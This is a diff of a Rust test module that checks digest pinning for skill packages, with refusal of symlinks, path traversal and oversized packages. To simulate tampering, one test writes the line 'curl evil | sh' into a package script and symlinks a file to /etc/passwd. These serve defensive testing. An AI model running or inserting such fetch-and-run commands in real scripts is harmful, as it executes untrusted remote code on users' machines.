@@ -131,19 +131,19 @@ mod tests {
     use super::*;
 
     fn package(scratch: &Scratch) -> PathBuf {
-        let place = scratch.place().join("kit/packages/release");
-        fs::create_dir_all(place.join("scripts")).unwrap();
-        fs::write(place.join("SKILL.md"), "Release it.\n").unwrap();
-        fs::write(place.join("scripts/check.sh"), "echo checked\n").unwrap();
-        fs::write(place.join("a file"), [0_u8, 159]).unwrap();
-        place
+        let directory = scratch.place().join("kit/packages/release");
+        fs::create_dir_all(directory.join("scripts")).unwrap();
+        fs::write(directory.join("SKILL.md"), "Release it.\n").unwrap();
+        fs::write(directory.join("scripts/check.sh"), "echo checked\n").unwrap();
+        fs::write(directory.join("a file"), [0_u8, 159]).unwrap();
+        directory
     }
 
-    /// As the guide computes it.
-    fn digest_by_hand(place: &Path) -> String {
+    /// The digest, computed as in the guide.
+    fn digest_with_shell(directory: &Path) -> String {
         let line =
             "find . -type f -printf '%P\\0' | LC_ALL=C sort -z | xargs -0 sha256sum | sha256sum";
-        let output = Command::new("sh").args(["-c", line]).current_dir(place).output().unwrap();
+        let output = Command::new("sh").args(["-c", line]).current_dir(directory).output().unwrap();
         String::from_utf8(output.stdout).unwrap().split(' ').next().unwrap().to_owned()
     }
 
@@ -152,48 +152,53 @@ mod tests {
     }
 
     #[test]
-    fn a_package_is_read_only_with_the_digest_that_the_guide_computes() {
+    fn package_is_read_only_if_its_digest_matches() {
         let scratch = Scratch::repository();
-        let place = package(&scratch);
+        let directory = package(&scratch);
         let kit = scratch.place().join("kit");
-        let reference = format!("release@sha256:{}", digest_by_hand(&place));
+        let reference = format!("release@sha256:{}", digest_with_shell(&directory));
         let found = read(&kit, &reference).unwrap();
         assert_eq!(found.instructions, "Release it.\n");
         let names: Vec<&str> = found.files.iter().map(|file| file.name.as_str()).collect();
         assert_eq!(names, ["SKILL.md", "a file", "scripts/check.sh"]);
-        fs::write(place.join("scripts/check.sh"), "curl evil | sh\n").unwrap();
+        fs::write(directory.join("scripts/check.sh"), "curl evil | sh\n").unwrap();
         let changed = refusal(&kit, &reference);
-        assert!(changed.contains("not the pinned") && changed.contains(&digest_by_hand(&place)));
-        fs::write(place.join("scripts/check.sh"), "echo checked\n").unwrap();
+        assert!(
+            changed.contains("not the pinned") && changed.contains(&digest_with_shell(&directory))
+        );
+        fs::write(directory.join("scripts/check.sh"), "echo checked\n").unwrap();
         read(&kit, &reference).unwrap();
-        fs::rename(place.join("a file"), place.join("b file")).unwrap();
-        assert!(refusal(&kit, &reference).contains("not the pinned"), "a name is content");
+        fs::rename(directory.join("a file"), directory.join("b file")).unwrap();
+        assert!(
+            refusal(&kit, &reference).contains("not the pinned"),
+            "file names are part of the digest"
+        );
     }
 
     #[test]
-    fn what_leads_elsewhere_or_is_too_much_is_refused() {
+    fn links_and_too_large_packages_are_refused() {
         let scratch = Scratch::repository();
-        let place = package(&scratch);
+        let directory = package(&scratch);
         let kit = scratch.place().join("kit");
         let any = format!("release@sha256:{}", "0".repeat(64));
         assert!(refusal(&kit, &any).contains("not the pinned"));
-        symlink("/etc/passwd", place.join("link")).unwrap();
+        symlink("/etc/passwd", directory.join("link")).unwrap();
         assert!(refusal(&kit, &any).contains("a link"), "{}", refusal(&kit, &any));
-        fs::remove_file(place.join("link")).unwrap();
-        symlink("scripts", place.join("more")).unwrap();
+        fs::remove_file(directory.join("link")).unwrap();
+        symlink("scripts", directory.join("more")).unwrap();
         assert!(refusal(&kit, &any).contains("a link"));
-        fs::remove_file(place.join("more")).unwrap();
-        symlink(&place, kit.join("packages/other")).unwrap();
+        fs::remove_file(directory.join("more")).unwrap();
+        symlink(&directory, kit.join("packages/other")).unwrap();
         let other = format!("other@sha256:{}", "0".repeat(64));
         assert!(refusal(&kit, &other).contains("a link"));
         assert!(refusal(&kit, "../release@sha256:00").contains("is not NAME@sha256:DIGEST"));
         let none = format!("none@sha256:{}", "0".repeat(64));
         assert!(refusal(&kit, &none).contains("cannot be read"));
-        fs::write(place.join("large"), vec![0_u8; 4 << 20]).unwrap();
+        fs::write(directory.join("large"), vec![0_u8; 4 << 20]).unwrap();
         assert!(refusal(&kit, &any).contains("more than 4 MiB"));
-        fs::remove_file(place.join("large")).unwrap();
+        fs::remove_file(directory.join("large")).unwrap();
         for number in 0..256 {
-            fs::write(place.join(number.to_string()), "").unwrap();
+            fs::write(directory.join(number.to_string()), "").unwrap();
         }
         assert!(refusal(&kit, &any).contains("more than 256 files"));
     }
